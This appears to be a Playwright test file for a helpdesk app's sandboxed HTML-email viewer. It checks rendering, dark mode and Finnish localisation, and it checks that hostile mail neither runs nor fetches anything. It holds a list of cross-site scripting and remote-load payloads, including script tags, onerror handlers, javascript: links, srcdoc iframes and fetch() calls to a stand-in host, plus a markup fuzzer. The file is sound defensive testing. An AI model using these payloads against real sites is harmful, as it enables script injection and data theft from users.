"""A mail as it was sent, in a real browser: it looks so, and whatever is in it does nothing and fetches nothing."""

from __future__ import annotations

import os
import random
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass
from email.message import EmailMessage
from typing import Any

from playwright.async_api import Frame, Locator, Page, expect
from sample_files import picture
from sample_letterbox import listening
from sample_looks import fits, judge
from sample_mail_desk import account
from sample_mailbox import ImapServer
from sample_office import Office
from sample_post import ADDRESS
from sample_provider import Said, StandIn
from sample_screens import Desk

from valvomo.db.database import Database

PHONE = {"width": 390, "height": 844}
LOGO = picture("PNG", (120, 40), "tomato")
NEAT = """<table width="100%" bgcolor="#1f2937"><tr><td style="padding:16px;color:#ffffff">
<img src="cid:logo@example.net" alt="Logo" width="120"> <b>Order 4711</b></td></tr></table>
<p style="color:#111827">Where is my parcel? <a href="https://shop.example/track">Track it</a></p>
<p style="background: #fef3c7; color:#92400e">It should be here by now.</p>
<img src="{elsewhere}/pixel.gif" width=1 height=1>"""
EVIL = (
    "<script>{do}</script>", "<script src='{elsewhere}/s.js'></script>", "<img src='{elsewhere}/x.gif' onerror='{do}'>",
    "<img src=x onerror='{do}'>", "<svg onload='{do}'><script>{do}</script><image href='{elsewhere}/svg'/></svg>",
    '<a id=lure href="javascript:{do}">lure</a>', ("<style>@import url({elsewhere}/c.css);"
    "body{{background:url({elsewhere}/b.png)}}</style>"), "<link rel=stylesheet href='{elsewhere}/l.css'>",
    "<form action='{elsewhere}/form'><input name=p value=1><button id=send>send</button></form>",
    "<meta http-equiv=refresh content='0;url={elsewhere}/refresh'>", "<base href='{elsewhere}/'>",
    "<iframe src='{elsewhere}/frame'></iframe>", '<iframe srcdoc="<script>{do}</script>"></iframe>',
    "<object data='{elsewhere}/o'></object>", "<embed src='{elsewhere}/e'>",
    "<video autoplay src='{elsewhere}/v'></video>",
    "<p style=\"background:url('{elsewhere}/p.png')\">ground</p>", "<input autofocus onfocus='{do}'>",
    "<details open ontoggle='{do}'>x</details>", "<math><mtext><img src=x onerror='{do}'></mtext></math>",
    "<link rel=prefetch href='{elsewhere}/prefetch'>", "<link rel='dns-prefetch' href='{elsewhere}'>",
    "<audio autoplay src='{elsewhere}/a'></audio>", "<img srcset='{elsewhere}/set.png 1x'>",
    "<noscript><p title=\"</noscript><img src=x onerror='{do}'>\"></noscript>",
    "<body onload='{do}' background='{elsewhere}/ground.png'>",
)  # fmt: skip
DO = "document.title=`ran`;parent.postMessage(`ran`,`*`);top.document.title=`ran`;fetch(`{elsewhere}/ran`)"


@dataclass
class Mailbox:
    """A desk at which mails lie, and a server elsewhere that nobody must ask."""

    desk: Desk
    imap: ImapServer
    elsewhere: StandIn

    async def comes(self, html: str, *, name: str = "Aada") -> Page:
        """A mail of somebody, which is picked."""
        self.imap.put(letter(html, name))
        await self.desk.page.get_by_role("button", name=f"Pick the conversation with {name}").click()
        await expect(self.desk.page.locator("[data-as-sent]")).to_be_visible()
        return self.desk.page


def letter(html: str, name: str) -> bytes:
    message = EmailMessage()
    message["From"], message["To"] = f"{name} <{name.lower()}@example.net>", ADDRESS
    message["Message-ID"], message["Subject"] = f"<{name}@example.net>", "Order 4711"
    message.set_content("Where is my parcel?")
    message.add_alternative(html, subtype="html")
    message.add_attachment(
        LOGO, "image", "png", cid="<logo@example.net>", filename="logo.png", disposition="inline"
    )
    return message.as_bytes()


@asynccontextmanager
async def mailbox(office: Office, **how: Any) -> AsyncIterator[Mailbox]:
    with listening() as (_box, port):
        async with ImapServer().open() as imap, StandIn(lambda _asked: Said(body=LOGO)).open() as elsewhere:
            await account(office, imap, port)
            yield Mailbox(await Desk.open(office, available=False, **how), imap, elsewhere)


async def shown(page: Page) -> tuple[Locator, Frame]:
    """It is opened; the dialog, and what is in the frame."""
    await page.locator("[data-as-sent]").click()
    dialog = page.get_by_role("dialog")
    handle = await dialog.locator("iframe[data-html]").element_handle()
    frame = await handle.content_frame()
    assert frame is not None
    await frame.wait_for_load_state()
    return dialog, frame


async def shot(page: Page, name: str) -> None:
    if folder := os.environ.get("VALVOMO_TEST_PICTURES"):
        await page.screenshot(path=f"{folder}/mail-html-{name}.png", animations="disabled")


async def test_a_mail_looks_as_it_was_sent(office: Office) -> None:
    async with mailbox(office) as box:
        page = await box.comes(NEAT.format(elsewhere=box.elsewhere.url))
        await expect(page.locator("[data-attachments] img")).to_have_count(1)
        dialog, frame = await shown(page)
        await expect(frame.get_by_text("Order 4711")).to_have_css("color", "rgb(255, 255, 255)")
        await expect(frame.get_by_text("It should be here")).to_have_css(
            "background-color", "rgb(254, 243, 199)"
        )
        logo = frame.get_by_role("img", name="Logo")
        assert await logo.evaluate("(one) => one.decode().then(() => one.naturalWidth)") == 120
        await expect(dialog.locator("[data-remote]")).to_contain_text("1 picture from elsewhere is not shown")
        assert box.elsewhere.asked == []
        link = frame.get_by_role("link", name="Track it")
        assert await link.get_attribute("target") == "_blank"
        assert await link.get_attribute("rel") == "noopener noreferrer nofollow"
        await judge(page)
        await shot(page, "light")
        await page.keyboard.press("Escape")
        await expect(dialog).to_have_count(0)
        await expect(page.locator("[data-as-sent]")).to_be_focused()


async def test_it_is_legible_in_the_dark_on_a_phone_in_finnish(office: Office) -> None:
    async with mailbox(office) as box:
        box.imap.put(letter("<p>Missä paketti on?</p><img src='https://evil.example/a'>" * 3, "Aada"))
        await box.desk.page.get_by_role("button", name="Pick the conversation with Aada").click()
        eino = await office.caller("eino")
        one = (await eino.get("/conversations"))["items"][0]["id"]
        page = await office.page("eino", viewport=PHONE, color_scheme="dark")
        await page.add_init_script("if (top === window) localStorage.setItem('valvomo.language', 'fi')")
        await page.goto(f"/desk/{one}")
        await expect(page.locator("[data-as-sent]")).to_have_text("Näytä sellaisena kuin lähetettiin")
        dialog, frame = await shown(page)
        body = frame.locator("body")
        await expect(body).to_have_css("color", "rgb(27, 31, 36)")
        await expect(body).to_have_css("background-color", "rgb(255, 255, 255)")
        await expect(dialog.locator("[data-remote]")).to_contain_text("3 muualla olevaa kuvaa")
        await judge(page)
        await fits(page)
        await shot(page, "dark-phone")


async def test_nothing_of_it_runs_or_is_fetched(office: Office) -> None:
    """Not one violation of the policy either: what is taken out is not even tried."""
    async with mailbox(office) as box:
        do = DO.format(elsewhere=box.elsewhere.url)
        evil = "\n".join(EVIL).format(elsewhere=box.elsewhere.url, do=do)
        page = await box.comes(f"<p>Before</p>{evil}<p>After</p>")
        await hear(page)
        _, frame = await shown(page)
        await expect(frame.get_by_text("After")).to_be_attached()
        await expect(
            frame.locator("script, style[data-x], iframe, form, object, embed, link, base, svg")
        ).to_have_count(0)
        await quiet(page, frame, box.elsewhere)


async def test_what_were_to_slip_through_is_held_by_the_frame(office: Office, database: Database) -> None:
    """Put into the database past everything that cleans it: the page that it is given out in holds it all the same."""
    async with mailbox(office) as box:
        page = await box.comes("<p>Harmless</p>")
        await hear(page)
        do = DO.format(elsewhere=box.elsewhere.url)
        for number, evil in enumerate([*EVIL, *fuzzed()]):
            html = evil.format(elsewhere=box.elsewhere.url, do=do) if number < len(EVIL) else evil
            async with database._pool.acquire() as link:
                await link.execute(
                    "UPDATE message_html SET html = $1 WHERE organization_id = (SELECT organization_id FROM users WHERE"
                    " email = $2)", f"<p>Number {number}</p>{html}", f"eino@{office.domain}",
                )  # fmt: skip
            dialog, frame = await shown(page)
            await quiet(page, frame, box.elsewhere)
            await page.keyboard.press("Escape")
            await expect(dialog).to_have_count(0)
        allowed = ("policy:", "Content Security Policy", "sandbox", "/files/")
        office.watch.faults[:] = [
            one for one in office.watch.faults
            if not any(word in one for word in allowed) and not one.startswith("foreign request")
        ]  # fmt: skip


def fuzzed(count: int = 12) -> list[str]:
    """Pieces of markup in any order, the same each time."""
    dice = random.Random(7)
    # fmt: off
    pieces = ["<script>top.document.title='ran'</script>", "<svg>", "</svg>", "<style>", "</style>", "<!--", "-->",
              "<table>",
              "<img src=x onerror=\"parent.postMessage('ran','*')\">", "<template>", "<math><mi>", "'\">", "</title>",
              "<a href=javascript:alert(1)>x</a>", "<iframe srcdoc='<script>top.document.title=`ran`</script>'>"]
    # fmt: on
    return ["".join(dice.choices(pieces, k=8)) for _ in range(count)]


async def hear(page: Page) -> None:
    """Whatever a frame would say to the console."""
    await page.evaluate(
        "window.heard = []; addEventListener('message', (event) => heard.push(String(event.data)))"
    )


async def quiet(page: Page, frame: Frame, elsewhere: StandIn) -> None:
    """Nothing has happened, and nothing does if somebody presses what can be pressed."""
    for lure in await frame.locator("#lure, #send").all():
        await lure.evaluate("(one) => one.click()")
    # A turn of the browser for each of them: what was to happen by then has happened.
    await page.evaluate("() => new Promise((done) => requestAnimationFrame(() => setTimeout(done)))")
    assert "ran" not in await page.evaluate("window.heard")
    assert "ran" not in await page.title()
    assert frame.url.partition("/files/")[1], "nobody has been led elsewhere"
    assert [one.path for one in elsewhere.asked] == []


async def test_a_link_opens_one_mail_for_a_while_and_its_answer_says_what_may_be_done_with_it(
    office: Office,
) -> None:
    async with mailbox(office) as box:
        page = await box.comes(NEAT.format(elsewhere=box.elsewhere.url))
        eino = await office.caller("eino")
        one = (await eino.get("/conversations"))["items"][0]["id"]
        (message,) = (await eino.get(f"/conversations/{one}/messages"))["items"]
        assert message["html"] is True
        link = await eino.get(f"/conversations/{one}/messages/{message['id']}/html")
        assert (link["remote"], link["cut"]) == (1, False)
        answer = await page.request.get(f"{office.address}{link['url']}")
        headers = answer.headers
        assert headers["content-security-policy"].startswith("sandbox allow-popups")
        assert "default-src 'none'" in headers["content-security-policy"]
        assert "allow-scripts" not in headers["content-security-policy"]
        assert (headers["x-content-type-options"], headers["referrer-policy"]) == ("nosniff", "no-referrer")
        assert "set-cookie" not in headers
        for path in (
            link["url"][:-1] + "x",
            link["url"].replace("/html/", "/whole/"),
            link["url"].replace("/html/", "/download/"),
        ):
            office.watch.expect(404)
            assert (await page.request.get(f"{office.address}{path}")).status == 404
        refused = await (await office.caller("admin")).ask(
            "GET", f"/conversations/{one}/messages/{message['id']}/html"
        )
        assert refused.status_code in {403, 404}
        gone = await eino.ask("GET", f"/conversations/{one}/messages/{one}/html")
        assert gone.status_code == 404
